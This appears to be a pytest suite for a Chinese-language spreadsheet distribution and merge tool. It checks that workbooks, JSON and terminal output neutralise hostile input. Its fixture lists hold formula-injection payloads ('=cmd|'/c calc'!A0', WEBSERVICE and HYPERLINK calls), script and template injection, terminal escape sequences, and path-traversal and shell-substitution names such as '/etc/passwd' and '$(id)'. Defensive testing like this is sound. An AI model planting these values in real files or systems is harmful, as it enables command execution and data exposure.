"""What people type stays text in every output, and no name from data leaves its folder."""

from __future__ import annotations

import json
import re
import zipfile
from io import StringIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from rich.console import Console
from typer.testing import CliRunner

from generator.cli import app
from generator.merge import merge
from generator.model.finding import Finding, Kind, Place
from generator.model.merged import Merged
from generator.model.roster import Department, Roster
from generator.report.json import merged_json
from generator.report.terminal import harmless_json, print_findings, print_recovery
from generator.stamp import file_names, legal_name, stamp_all
from generator.workbook.describe import describe
from generator.workbook.keys import own_key
from generator.workbook.reader.formats import open_book
from generator.workbook.result.write import write_result
from generator.workbook.roster import read_roster, write_roster
from generator.workbook.save import write_text
from tests.report.city import PERIOD, City, answers, small_form
from tests.workbook.handmade import package

ACTIVE = (
    *("=1+1", "=cmd|'/c calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|x!A1", "@SUM(1+1)*cmd|x!A0"),
    *("\t=1+1", "\r=1+1", "＝1+1", '=HYPERLINK("http://x.example/?"&A1,"点这里")'),
    *("http://x.example/a", "file:///c:/windows/system32/calc.exe", "javascript:alert(1)"),
    *('=WEBSERVICE("http://x.example")', "<script>alert(1)</script>", "{{ 7 * 7 }}"),
    *("\x1b[2J\x1b]0;owned\x07", "\x9b31m", "[bold red]红[/bold red]", "[link=http://x]x[/link]"),
    *("_x000D_", "a\x00b\x0bc", "\u202egnp.exe", "%s%n{0}", "a" * 40_000, "\ud800"),
)


@pytest.fixture(scope="module")
def merged(tmp_path_factory: pytest.TempPathFactory) -> Merged:
    """A merge of one return per text, typed as code, note and department name."""
    people = tuple(Department(f"D{i:02}", text[:200]) for i, text in enumerate(ACTIVE))
    city = City(tmp_path_factory.mktemp("回收"), small_form(), Roster(people))
    for person, text in zip(people, ACTIVE, strict=True):
        city.send(person.code, answers(1, 1, (text[:300], "甲类", 1, text), budget=3))
    return city.merge()


@pytest.fixture(scope="module")
def result(merged: Merged, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The result workbook of that merge."""
    path = tmp_path_factory.mktemp("结果") / "汇总.xlsx"
    write_result(merged, path)
    return path


def test_everything_that_was_typed_was_read(merged: Merged):
    assert [each.filing is not None for each in merged.standings] == [True] * len(ACTIVE)


def test_a_stamped_workbook_has_no_formula_but_its_own(tmp_path: Path):
    form = small_form()
    plain = Roster((Department("1", "甲"),))
    evil = Roster(tuple(Department(str(i), text[:200]) for i, text in enumerate(ACTIVE, 2)))
    [own] = stamp_all(form, plain, PERIOD, tmp_path / "a")
    expected = _formulas(own.path)
    for each in stamp_all(form, evil, PERIOD, tmp_path / "b"):
        assert _formulas(each.path) == expected
        assert _links(each.path) == []


def test_the_result_workbook_has_no_formula_from_data(result: Path):
    assert [each for each in _formulas(result) if "cmd" in each or "x.example" in each] == []
    texts = {cell.value for sheet in open_book(result).sheets for cell in sheet.cells.values()}
    kept = [text for text in ACTIVE if len(text) < 200 and text.isprintable()]
    assert [text for text in kept if text not in texts] == []


def test_links_in_the_result_lead_to_returned_files_alone(result: Path):
    links = _links(result)
    assert links
    assert [each for each in links if not re.fullmatch(r"\.\./[^:]*/D\d\d\.xlsx(#.*)?", each)] == []


def _formulas(path: Path) -> list[str]:
    sheets = load_workbook(path).worksheets
    cells = (cell for sheet in sheets for row in sheet.iter_rows() for cell in row)
    return [str(cell.value) for cell in cells if cell.data_type == "f"]


def _links(path: Path) -> list[str]:
    """Return the targets of everything outside that a workbook leads to."""
    with zipfile.ZipFile(path) as package_:
        parts = [package_.read(each).decode() for each in package_.namelist() if ".rels" in each]
    outside = [
        link
        for part in parts
        for link in re.findall(r"<Relationship [^>]*>", part)
        if 'TargetMode="External"' in link
    ]
    return [re.sub(r'.*Target="([^"]*)".*', r"\1", each) for each in outside]


def test_json_keeps_texts_to_the_letter(merged: Merged, tmp_path: Path):
    path = tmp_path / "汇总.json"
    write_text(path, json.dumps(merged_json(merged), ensure_ascii=False))
    read = json.loads(path.read_bytes())
    names = [each["name"] for each in read["departments"]]
    assert names == [each.department.name for each in merged.standings]


def test_nothing_steers_the_terminal(merged: Merged):
    out = StringIO()
    console = Console(file=out, force_terminal=True, width=200, legacy_windows=False)
    print_recovery(merged, console)
    findings = [
        Finding("R", Kind.NOTE, Place(text[:99], text[:99], 1, 1), text, text) for text in ACTIVE
    ]
    print_findings(findings, console)
    shown = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())  # the colours are ours
    assert [each for each in "\x1b\x07\x9b\x00\x0b\u202e" if each in shown] == []
    assert "[bold red]红[/bold red]" in shown
    assert "[link=http://x]x[/link]" in shown


def test_json_for_the_terminal_is_the_same_json():
    document = {"text": list(ACTIVE)}
    shown = harmless_json(json.dumps(document, ensure_ascii=False))
    assert json.loads(shown) == document
    assert [each for each in "\x1b\x07\x9b\u202e" if each in shown] == []


def test_a_workbook_shown_as_text_does_not_steer_the_terminal(tmp_path: Path):
    path = tmp_path / "a.xlsx"
    names = '<definedName name="_x001B_[2J">_x009B_</definedName>'
    path.write_bytes(package('<row><c r="A1"><f>1</f><v>1</v></c></row>', names=names))
    assert "\x1b" in describe(path)
    output = CliRunner().invoke(app, ["describe", str(path)]).output
    assert "[2J" in output
    assert "\x1b" not in output


def test_an_error_that_quotes_a_name_does_not_steer_the_terminal(tmp_path: Path):
    missing = tmp_path / "\x1b[2J.xlsx"
    output = CliRunner().invoke(app, ["check", str(missing)]).output
    assert "找不到" in output
    assert "\x1b" not in output


# -- names --

NAMES = (
    *(
        "../../外面",
        "..",
        "/etc/passwd",
        "C:\\Windows",
        "\\\\server\\share",
        "a/b",
        "CON",
        "nul.txt",
    ),
    *("com¹", "甲.", "甲 ", " 甲", "甲...", "~", "", "a" * 300, "县" * 300, "A", "a", "ß", "ss"),
    *(
        "é",
        "e\u0301",
        "a\u202egnp",
        "\ud800",
        "a:b",
        "a|b",
        "x\x00y",
        "~$甲",
        "-rf",
        "$(id)",
        "`id`",
    ),
)


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_a_name_from_data_is_one_plain_file_name(name: str):
    legal = legal_name(name)
    assert not re.search(r'[<>:"/\\|?*\x00-\x1f]', legal)
    assert legal not in ("", ".", "..")
    assert len(f"{legal}(999).xlsx".encode()) < 255
    assert legal == legal.strip().rstrip(".")


def test_hostile_names_stay_in_the_folder_and_never_collide(tmp_path: Path):
    out = tmp_path / "下发"
    people = tuple(Department(f"{i}", name) for i, name in enumerate(NAMES))
    stamped = stamp_all(small_form(), Roster(people), PERIOD, out)
    assert {each.path.parent for each in stamped} == {out}
    assert sorted(each.name for each in tmp_path.iterdir()) == ["下发"]
    names = {each.path.name.casefold() for each in stamped}
    assert len(names) == len(NAMES) == len(list(out.iterdir())) - 1  # and 分发清单


def test_hostile_codes_and_the_same_name_twice_stay_in_the_folder(tmp_path: Path):
    out = tmp_path / "下发"
    twins = (Department("1", "甲"), Department("2", "甲"), Department("1.", "甲"))
    codes = tuple(Department(code, "乙") for code in NAMES if code)
    stamped = stamp_all(small_form(), Roster((*twins, *codes)), PERIOD, out)
    assert {each.path.parent for each in stamped} == {out}
    assert sorted(each.name for each in tmp_path.iterdir()) == ["下发"]
    names = {_confused(each.path.name) for each in stamped}
    assert len(names) == len(twins) + len(codes) == len(list(out.iterdir())) - 1


def test_names_that_only_a_file_system_confuses_do_not_collide():
    people = [Department(code, "x") for code in ("É", "E\u0301", "é", "e\u0301")]
    names = file_names(small_form(), people, PERIOD).values()
    assert len({_confused(each) for each in names}) == 4


def _confused(name: str) -> str:
    from unicodedata import normalize

    return normalize("NFC", name).casefold()


def test_a_roster_with_the_same_code_twice_is_refused(tmp_path: Path):
    people = Roster((Department("1", "甲"), Department("1", "乙")))
    path = tmp_path / "名册.xlsx"
    write_roster(small_form(), people, path)
    with pytest.raises(ValueError, match="1"):
        read_roster(path, small_form())


@pytest.mark.parametrize("name", ["=1+1.xlsx", "a\x1b[2J.xlsx", "http:x.xlsx", "a\\..\\b.xlsx"])
def test_a_returned_file_may_be_called_anything(tmp_path: Path, name: str):
    city = City(tmp_path / "回收", small_form())
    city.put(name, city.workbook("101"))
    _written(merge(city.folder, city.roster, form=city.form, key=own_key()), tmp_path)


def test_a_returned_file_may_be_called_in_another_encoding(tmp_path: Path):
    city = City(tmp_path / "回收", small_form())
    name = "财政局.xlsx".encode("gb18030").decode("utf-8", "surrogateescape")
    city.put(name, city.workbook("101"))
    _written(city.merge(), tmp_path)


def _written(merged: Merged, folder: Path) -> None:
    """Write every output, and read it back."""
    write_result(merged, folder / "汇总.xlsx")
    assert open_book(folder / "汇总.xlsx").sheets
    write_text(folder / "汇总.json", json.dumps(merged_json(merged), ensure_ascii=False))
    assert json.loads((folder / "汇总.json").read_bytes())["departments"]
    links = _links(folder / "汇总.xlsx")
    assert [each for each in links if not each.startswith("回收/")] == []


def test_a_bug_of_ours_is_not_passed_off_as_a_mistake_in_the_input(monkeypatch: pytest.MonkeyPatch):
    def wrong(*_: object, **__: object) -> None:
        int("x")

    monkeypatch.setattr("generator.merge.check_files", wrong)
    result = CliRunner().invoke(app, ["check", __file__])
    assert isinstance(result.exception, ValueError)
    assert "invalid literal" in str(result.exception)
